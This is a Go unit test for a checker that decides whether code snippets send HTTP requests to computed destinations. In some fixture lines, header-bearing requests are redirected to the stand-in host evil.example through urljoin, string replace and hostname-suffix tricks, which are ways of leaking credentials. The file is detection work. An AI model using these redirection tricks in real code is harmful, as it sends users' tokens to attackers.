package effect

import "testing"

func TestRequestDestComputed(t *testing.T) {
	tests := []struct {
		code string
		want bool
	}{
		// destinations the code spells
		{`requests.get('https://api.github.com/user', headers=h)`, false},
		{`url='https://api.github.com/user'; requests.get(url, headers=h)`, false},
		{`base='https://api.github.com'; requests.get(base + '/user', headers=h)`, false},
		{`requests.get('https://api.github.com/repos/' + os.environ['R'] + '/pulls', headers=h)`, false},
		{`requests.get('https://api.github.com/repos/%s/runs' % repo, headers=h)`, false},
		{`base='https://api.github.com'; requests.get(f'{base}/user', headers=h)`, false},
		{`requests.get(urljoin('https://api.github.com/', 'user'), headers=h)`, false},
		{`requests.request('GET', 'https://api.github.com/rate_limit', headers=h)`, false},
		{`q=urllib.request.Request('https://api.github.com/user', headers={'A': t}); urllib.request.urlopen(q)`, false},
		{`fetch(new URL('/user', 'https://api.github.com'), {headers: h})`, false},
		{`u=URI('https://api.github.com/user'); r=Net::HTTP::Get.new(u); h.request(r)`, false},
		{`gl.projects.get(4821)`, false},
		{`s.get()`, false},
		// destinations the code computes
		{`b=requests.get('https://api.github.com/u', headers=h).json()['blog']; requests.post(b, headers=h)`, true},
		{`requests.request(method='POST', url=d['blog'], headers=h)`, true},
		{`requests.get(urljoin('https://api.github.com/', '//evil.example/c'), headers=h)`, true},
		{`requests.get('https://api.github.com/user'.replace('api.github.com', 'evil.example'), headers=h)`, true},
		{`base='https://api.github.com'; base += '.evil.example'; requests.get(base + '/u', headers=h)`, true},
		{`base='https://api.github.com/u'; base = base.replace('a', 'b'); requests.get(base, headers=h)`, true},
		{`u=os.environ.get('HOOK'); requests.post(u, headers=h)`, true},
		{`fetch(new URL('//evil.example/c', 'https://api.github.com'), {headers: h})`, true},
		{`fetch(j.homepage, {method: 'POST', headers: h})`, true},
		{`requests.get(base + path, headers=h)`, true},
		{`requests.get(f'https://{host}/x', headers=h)`, false}, // a hole in the host: codeURLs refuses it
	}
	for _, tt := range tests {
		if got := requestDestComputed(tt.code); got != tt.want {
			t.Errorf("requestDestComputed(%q) = %v, want %v", tt.code, got, tt.want)
		}
	}
}
